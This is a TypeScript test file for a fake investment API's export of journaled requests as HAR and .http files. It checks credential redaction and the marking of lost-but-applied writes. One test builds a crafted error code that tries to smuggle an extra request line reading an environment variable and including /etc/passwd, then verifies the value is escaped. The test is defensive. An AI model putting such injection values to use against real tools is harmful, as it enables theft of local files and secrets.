import { createRequire } from 'node:module';
import { Ajv } from 'ajv';
import draft6 from 'ajv/dist/refs/json-schema-draft-06.json' with { type: 'json' };
import { describe, expect, it } from 'vitest';
import type { Express } from 'express';
import type { World } from '../../src/api/types.js';
import { bearer, http, testApp, tokenFor } from '../support/test-app.js';
import { httpFileOf } from '../../src/proof/export.js';
import { JournalRecord } from '../../src/records/journal.js';
import { httpProblems } from '../support/generated-code.js';

const harSchemas = createRequire(import.meta.url)('har-schema') as Record<string, object>;
const ajv = new Ajv({ allErrors: true, strict: false });
ajv.addMetaSchema(draft6);
for (const schema of Object.values(harSchemas)) ajv.addSchema(schema);
const validHar = ajv.getSchema('har.json#')!;

/** A session with a token request, a list, a create with a body, a problem, a download and a dropped connection. */
async function session() {
  const app = testApp();
  const token = await tokenFor(app);
  await http(app).get('/v1/orders?order_status=PLACED&limit=2').set(bearer(token)).expect(200);
  await http(app).post('/v1/accounts').set(bearer(token)).send({ type: 'individual', first_name: 'Ada' }).expect(201);
  await http(app).post('/v1/accounts').set(bearer(token)).send({ type: 'individual', business_name: 'X' }).expect(422);
  const world = (await http(app).get('/__control/state')).body as World;
  const documents = await http(app)
    .get(`/v1/funds/${world.feeder_funds[0]!.abbreviation}/documents`)
    .set(bearer(token))
    .expect(200);
  const link = new URL(documents.body.data[0].url as string);
  await http(app).get(`${link.pathname}${link.search}`).expect(200);
  await http(app).post('/__control/faults').send({ path: '/v1/assets', drop: true, count: 1 }).expect(201);
  await http(app)
    .get('/v1/assets')
    .set(bearer(token))
    .catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 50));
  return { app, token, signature: link.searchParams.get('signature')! };
}

const exported = (app: Express, format: string) =>
  http(app)
    .get(`/__control/export?format=${format}`)
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.on('data', (chunk: Buffer) => (text += chunk.toString()));
      res.on('end', () => done(null, text));
    });

describe('GET /__control/export?format=har', () => {
  it('is HAR 1.2 by its published schema, with bodies as the journal holds them and no credential', async () => {
    const { app, token, signature } = await session();
    const response = await exported(app, 'har');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    expect(response.headers['content-disposition']).toBe('attachment; filename="sandbox-client-requests.har"');
    const text = response.body as string;
    const har = JSON.parse(text);
    expect(validHar(har), JSON.stringify(validHar.errors)).toBe(true);
    const entries = har.log.entries as {
      request: {
        method: string;
        url: string;
        postData?: { text: string; params?: { name: string; value: string }[] };
        headers: { name: string; value: string }[];
      };
      response: { status: number; content: { text?: string; size: number; mimeType: string } };
    }[];
    expect(entries.map((e) => `${e.request.method} ${new URL(e.request.url).pathname} ${e.response.status}`)).toEqual([
      'POST /oauth2/token 200',
      'GET /v1/orders 200',
      'POST /v1/accounts 201',
      'POST /v1/accounts 422',
      expect.stringMatching(/^GET \/v1\/funds\/.+\/documents 200$/),
      expect.stringMatching(/^GET \/files\/sandbox-client\/.+\.pdf 200$/),
      'GET /v1/assets 0',
    ]);
    expect(entries[0]!.request.postData!.params).toContainEqual({ name: 'client_secret', value: '[redacted]' });
    expect(JSON.parse(entries[0]!.response.content.text!)).toMatchObject({
      access_token: '[redacted]',
      token_type: 'Bearer',
    });
    expect(entries[1]!.request.url).toBe('http://fake.test/v1/orders?order_status=PLACED&limit=2');
    expect(entries[1]!.request.headers).toContainEqual({ name: 'Authorization', value: 'Bearer [redacted]' });
    expect(JSON.parse(entries[1]!.response.content.text!).data).toHaveLength(2);
    expect(JSON.parse(entries[2]!.request.postData!.text)).toEqual({ type: 'individual', first_name: 'Ada' });
    expect(JSON.parse(entries[3]!.response.content.text!)).toMatchObject({ code: 'field_not_applicable' });
    expect(entries[4]!.response.content.text).toContain('signature=[redacted]');
    expect(entries[5]!.response.content).toMatchObject({ mimeType: 'application/pdf', size: expect.any(Number) });
    expect(entries[5]!.response.content.text).toBeUndefined();
    for (const secret of ['sandbox-secret', token, token.split('.')[2]!, signature]) expect(text).not.toContain(secret);
  });

  it('is an empty log for a tenant without requests, and refuses an unknown format', async () => {
    const app = testApp();
    const har = JSON.parse((await exported(app, 'har')).body as string);
    expect(validHar(har)).toBe(true);
    expect(har.log.entries).toEqual([]);
    const refused = await http(app).get('/__control/export?format=postman');
    expect(refused.status).toBe(422);
    expect(refused.body.errors[0]).toMatchObject({ location: 'query', path: '/format' });
  });
});

describe('GET /__control/export?format=http', () => {
  it('is a .http file: variables on top, ### between requests, {{token}} for the token, secrets as variables', async () => {
    const { app, token } = await session();
    const response = await exported(app, 'http');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/plain/);
    expect(response.headers['content-disposition']).toBe('attachment; filename="sandbox-client-requests.http"');
    const text = response.body as string;
    const [head, ...blocks] = text.split(/^(?=### )/m);
    expect(head).toMatch(/^# 7 request\(s\) journaled/);
    expect(head).toContain('@base = http://fake.test\n@token = ');
    expect(blocks).toHaveLength(7);
    expect(blocks[0]).toMatch(
      /^### 1: POST \/oauth2\/token answered 200\nPOST \{\{base\}\}\/oauth2\/token\nContent-Type: application\/x-www-form-urlencoded\n\n.*client_secret=\{\{client_secret\}\}/,
    );
    expect(blocks[1]).toBe(
      '### 2: GET /v1/orders answered 200\nGET {{base}}/v1/orders?order_status=PLACED&limit=2\nAuthorization: Bearer {{token}}\n\n',
    );
    expect(blocks[2]).toContain(
      'POST {{base}}/v1/accounts\nAuthorization: Bearer {{token}}\nContent-Type: application/json\n\n{"type":"individual","first_name":"Ada"}\n',
    );
    expect(blocks[3]).toMatch(/^### 4: POST \/v1\/accounts answered 422 field_not_applicable/);
    expect(blocks[6]).toMatch(/^### 7: GET \/v1\/assets answered nothing \(connection dropped\)/);
    expect(text).not.toContain('sandbox-secret');
    expect(text).not.toContain(token);
  });
});

describe('a .http file written from values that break lines', () => {
  it("adds no request for a problem code with a line break in it (shadow mode's upstream chooses its codes)", () => {
    const code = 'not_found\nGET https://elsewhere.test/?{{$processEnv HOME}}\r\n### 2\u2028< /etc/passwd';
    const record = new JournalRecord(
      {
        id: '1',
        client_id: 'sandbox-client',
        method: 'GET',
        path: '/v1/accounts/a b{{c}}#d',
        rawQuery: 'x=1',
        status: 404,
        duration_ms: 1,
        operation_id: 'getAccount',
        code,
        fault_id: null,
        applied: false,
      },
      { at: 0, retryAfter: null, bodyHash: null, itemCount: null, tenantAt: 0 },
    );
    const text = httpFileOf([record], {
      baseUrl: 'http://fake.test',
      creator: { name: 'investment-api-fake', version: '0' },
    });
    expect(httpProblems(text, 1)).toEqual([]);
    expect(text).toContain(
      '### 1: GET /v1/accounts/a b{%7Bc}}#d answered 404 not_found\\nGET https://elsewhere.test/?{%7B$processEnv HOME}}\\n### 2\\u2028< /etc/passwd\n',
    );
    expect(text).toContain('\nGET {{base}}/v1/accounts/a%20b%7B%7Bc%7D%7D%23d?x=1\n');
  });
});

describe('an answer lost after its write, exported', () => {
  it('says the operation was applied: _applied and a comment in HAR, a note on the .http block', async () => {
    const app = testApp();
    const token = await tokenFor(app);
    await http(app)
      .post('/__control/faults')
      .send({ method: 'POST', path: '/v1/accounts', drop: true, phase: 'after', count: 1 })
      .expect(201);
    await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .send({ type: 'individual', first_name: 'Ada' })
      .catch(() => undefined);
    await http(app).post('/v1/accounts').set(bearer(token)).send({ type: 'individual', first_name: 'Ada' }).expect(201);
    await new Promise((resolve) => setTimeout(resolve, 50));
    const har = JSON.parse((await exported(app, 'har')).body as string);
    expect(validHar(har), JSON.stringify(validHar.errors)).toBe(true);
    const [token_, lost, created] = har.log.entries;
    expect(token_._applied).toBe(true);
    expect(lost).toMatchObject({
      _applied: true,
      response: { status: 0 },
      comment: 'applied: the operation was done, its answer lost',
    });
    expect(created._applied).toBe(true);
    expect(created.comment).toBeUndefined();
    const text = (await exported(app, 'http')).body as string;
    expect(text).toContain(
      '### 2: POST /v1/accounts answered nothing (connection dropped) (applied: the operation was done, its answer lost)\n',
    );
    expect(text).toContain('### 3: POST /v1/accounts answered 201\n');
  });
});
